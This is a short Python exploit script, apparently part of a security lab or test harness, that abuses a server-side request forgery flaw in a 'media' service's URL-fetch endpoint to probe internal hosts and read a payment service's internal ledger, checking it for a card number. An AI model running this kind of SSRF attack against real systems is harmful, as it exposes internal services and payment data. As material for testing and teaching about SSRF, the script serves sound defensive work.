#!/usr/bin/python3 -B
"""Server-side request forgery: media fetches payment's ledger, meant for the inside (CWE-918)."""

import base64
import json
from urllib.parse import quote

from attack import Attack


def run(attack: Attack) -> bool:
    attack.order()  # so that there is a line in the ledger

    def fetch(url: str) -> str:
        answer = json.loads(attack.ask("POST", f"/media/fetch?url={quote(url)}", b"")[1])
        return base64.b64decode(answer.get("data", "")).decode(errors="replace")

    found = {name: fetch(f"http://{name}:8000/health") for name in ("stock", "payment", "notify")}
    ledger = fetch("http://payment:8000/payment/ledger")
    return attack.prove("4000000000000002" in ledger and '"stock"' in found["stock"], ledger=ledger)


Attack("T1190, T1090", ["edge", "media", "payment"], ["payment's ledger"], entry="media").main(run)
